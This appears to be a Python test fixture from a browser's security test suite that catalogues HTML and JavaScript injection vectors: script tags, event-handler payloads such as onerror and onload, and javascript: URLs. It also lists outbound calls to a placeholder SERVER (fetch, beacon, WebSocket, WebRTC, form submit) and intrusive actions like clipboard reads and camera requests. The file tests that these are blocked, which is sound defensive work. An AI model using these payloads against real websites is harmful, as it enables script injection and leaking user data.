"""Pages that run scripts: the ways a script is started, and what scripts then do."""

from __future__ import annotations

from tests.security.attack import Act, Attack

NO_FEATURE = "Chromium never had it, or no longer has it"
SAME_ORIGIN = "Chromium loads it from the page's own origin only"
NO_SCREEN = "without a screen it comes about in some runs only"
TURN = "setTimeout(() => {{ {} }}, 50)"


def _run(name: str, script: str, act: Act = Act.LOOK, dead: str = "") -> Attack:
    """A script that runs by itself, or as the answer to a click."""
    if act is Act.LOOK:
        return Attack(name, f"<script>{script}</script>", act, dead)
    return Attack(name, f"<script>function act() {{ {script} }}</script><p onclick='act()'>WIDE</p>", act, dead)


STARTING = (
    Attack("script", "<script>probe()</script>"),
    Attack("script file", '<script src="http://SERVER/s.js"></script>'),
    Attack("script data", '<script src="data:text/javascript,probe()"></script>'),
    Attack("script module", "<script type=module>probe()</script>"),
    Attack("script module file", '<script type=module src="http://SERVER/s.js"></script>'),
    Attack("script nomodule", '<script nomodule src="http://SERVER/s.js"></script>', dead="Chromium knows modules"),
    Attack(
        "script map",
        '<script type=importmap>{"imports": {"a": "http://SERVER/s.js"}}</script>'
        '<script type=module>import "a"</script>',
    ),
    Attack("script svg", "<svg><script>probe()</script></svg>"),
    Attack("script svg file", '<svg><script href="http://SERVER/s.js"></script></svg>'),
    Attack(
        "script svg document",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><title>still</title><script>document.title='ran'</script></svg>",
        mime="image/svg+xml",
        whole=True,
    ),
    Attack("script in frame", '<iframe srcdoc="<script>parent.probe()</script>"></iframe>'),
    Attack("script frame address", '<iframe src="javascript:parent.probe()"></iframe>'),
    Attack("script object address", '<object data="javascript:parent.probe()"></object>', dead=NO_FEATURE),
    Attack("script in shadow", "<div><template shadowrootmode=open><script>probe()</script></template></div>"),
    Attack("script for event", "<script for=window event=onload>probe()</script>"),
    Attack("script image address", '<img src="javascript:probe()">', dead=NO_FEATURE),
    Attack(
        "rules",
        '<script type=speculationrules>{"prefetch": [{"urls": ["http://SERVER/r.html"], '
        '"eagerness": "immediate"}]}</script>',
    ),
    Attack(
        "rules prerender",
        '<script type=speculationrules>{"prerender": [{"urls": ["/other"], "eagerness": "immediate"}]}</script>',
        dead="QtWebEngine does not prerender",
    ),
    Attack("onload", '<body onload="probe()">'),
    Attack("onpageshow", '<body onpageshow="probe()">'),
    Attack("onerror", '<img src="data:x" onerror="probe()">'),
    Attack("onload image", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="probe()">'),
    Attack("onload style", '<style onload="probe()">p{color:red}</style>'),
    Attack("onload svg", '<svg onload="probe()"></svg>'),
    Attack("onfocus", '<input onfocus="probe()" autofocus>', Act.ENTER, dead=NO_SCREEN),
    Attack("ontoggle", '<details open ontoggle="probe()">x</details>'),
    Attack("onbegin", '<svg><animate onbegin="probe()" attributeName=x dur=1s /></svg>'),
    Attack("onanimation", '<style>@keyframes a{}p{animation:a 1ms}</style><p onanimationstart="probe()">x'),
    Attack("oncuechange", '<video onerror="probe()" src="data:x"></video>'),
    Attack("onstart", '<marquee onstart="probe()">x</marquee>', dead="Chromium starts it when it is seen"),
    Attack("onobject", '<object data="data:x" onerror="probe()"></object>'),
    Attack("onpolicy", "<body onhashchange=\"probe()\"><meta http-equiv=refresh content='0;url=#end'>"),
)
SENDING = (
    _run("fetch", "fetch('http://SERVER/f')"),
    _run("fetch keepalive", "fetch('http://SERVER/f', {method: 'POST', keepalive: true, mode: 'no-cors'})"),
    _run("request", "const r = new XMLHttpRequest(); r.open('GET', 'http://SERVER/x'); r.send()"),
    _run("beacon", "navigator.sendBeacon('http://SERVER/b', 'x')"),
    _run("websocket", "new WebSocket('ws://SERVER/w')"),
    _run("events", "new EventSource('http://SERVER/e')"),
    _run("transport", "new WebTransport('https://SERVER/t')"),
    _run(
        "webrtc",
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:SERVER'}]}); c.createDataChannel('x');"
        "c.createOffer().then(o => c.setLocalDescription(o))",
    ),
    _run(
        "webrtc turn",
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:SERVER?transport=tcp', username: "
        "'u', credential: 'p'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    ),
    _run("new image", "new Image().src = 'http://SERVER/i.png'"),
    _run("worker", "new Worker(URL.createObjectURL(new Blob([\"fetch('http://SERVER/w')\"])))"),
    _run("shared worker", "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://SERVER/w')\"])))"),
    _run("service worker", "navigator.serviceWorker.register('/worker.js?http://SERVER/s').then(probe)"),
    _run("dynamic import", "import('http://SERVER/s.js')"),
    _run("written", "document.write('<img src=\"http://SERVER/i.png\">')"),
    _run("font", "new FontFace('x', 'url(http://SERVER/f.woff)').load()"),
    _run("submitted", "document.write('<form id=f method=post action=\"http://SERVER/f\"></form>'); f.submit()"),
    _run("reported", "new ReportingObserver(() => 0).observe(); fetch('http://SERVER/r', {mode: 'no-cors'})"),
    _run(
        "payment",
        "new PaymentRequest([{supportedMethods: 'http://SERVER/p'}], {total: {label: 'x', amount: "
        "{currency: 'EUR', value: '1'}}}).canMakePayment()",
        dead="it wants https",
    ),
    _run(
        "credentials",
        "navigator.credentials.get({identity: {providers: [{configURL: 'http://SERVER/c', clientId: 'x'}]}})",
    ),
)
DOING = (
    _run("location", "location = 'http://SERVER/l.html'"),
    _run("location own", "location = '/other'"),
    _run("location program", "location = 'mailto:location-program@example.org'"),
    _run("history", "history.pushState(0, '', '/pushed')"),
    _run("open", "window.open('http://SERVER/o.html')", Act.CLICK),
    _run("open empty", "window.open('about:blank', 'x', 'popup,width=99,height=99')", Act.CLICK),
    _run("open program", "window.open('mailto:open-program@example.org')", Act.CLICK),
    _run("open unasked", "window.open('http://SERVER/o.html')"),
    _run("alert", TURN.format("alert(1)")),
    _run("confirm", TURN.format("confirm(1)")),
    _run("prompt", TURN.format("prompt(1)")),
    _run("print", TURN.format("print()")),
    _run("unload prompt", "addEventListener('beforeunload', e => e.preventDefault()); location = '/other'"),
    _run("full screen", "document.documentElement.requestFullscreen()", Act.CLICK),
    _run("pointer lock", "document.body.requestPointerLock()", Act.CLICK, dead=NO_SCREEN),
    _run(
        "copy",
        "const i = document.createElement('input'); i.value = 'SLUG'; document.body.append(i); i.select();"
        "document.execCommand('copy')",
        Act.CLICK,
    ),
    _run("clipboard", "navigator.clipboard.writeText('SLUG')", Act.CLICK),
    _run("clipboard read", "navigator.clipboard.readText().then(probe, probe)", Act.CLICK),
    _run("notification", "Notification.requestPermission()", Act.CLICK),
    _run("geolocation", "navigator.geolocation.getCurrentPosition(probe, probe)"),
    _run("camera", "navigator.mediaDevices.getUserMedia({video: true}).then(probe, probe)"),
    _run("screen", "navigator.mediaDevices.getDisplayMedia().then(probe, probe)", Act.CLICK),
    _run("fonts", "queryLocalFonts().then(probe, probe)", Act.CLICK),
    _run("file picker", "showOpenFilePicker().then(probe, probe)", Act.CLICK),
    _run("protocol", "navigator.registerProtocolHandler('web+x', '/%s')", Act.CLICK),
    _run("downloading", "const a = document.createElement('a'); a.download = 'x.txt'; a.href = 'data:,x'; a.click()"),
    _run(
        "downloading blob",
        "const a = document.createElement('a'); a.download = 'x.txt';"
        "a.href = URL.createObjectURL(new Blob(['x'])); a.click()",
    ),
    _run("scroll", "addEventListener('load', () => scrollTo(0, 900))"),
    _run("focus", "addEventListener('load', () => { bottom.tabIndex = 0; bottom.focus() })"),
    _run("resize", "resizeTo(99, 99); moveTo(0, 0)", dead="only a window that a script opened can be moved"),
    _run("storage", "localStorage.x = 1; sessionStorage.x = 1; indexedDB.open('x'); probe()"),
    _run("cookie script", "document.cookie = 'a=b'; cookieStore.set('c', 'd').then(probe)"),
)

RUNNING = (*STARTING, *SENDING, *DOING)
